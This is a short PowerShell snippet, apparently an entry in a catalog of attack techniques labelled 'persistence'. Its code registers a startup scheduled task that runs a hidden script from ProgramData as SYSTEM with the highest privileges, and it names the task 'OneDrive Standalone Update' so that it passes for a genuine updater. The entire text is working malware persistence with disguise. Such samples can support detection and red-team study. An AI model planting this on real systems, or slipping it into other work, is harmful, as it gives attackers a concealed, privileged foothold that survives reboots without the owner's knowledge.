# description: Registers a startup task that runs a hidden script as SYSTEM.
# family: persistence
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoProfile -WindowStyle Hidden -File C:\ProgramData\svc\update.ps1'
$trigger = New-ScheduledTaskTrigger -AtStartup
Register-ScheduledTask -TaskName 'OneDrive Standalone Update' -Action $action -Trigger $trigger -User 'SYSTEM' -RunLevel Highest -Force
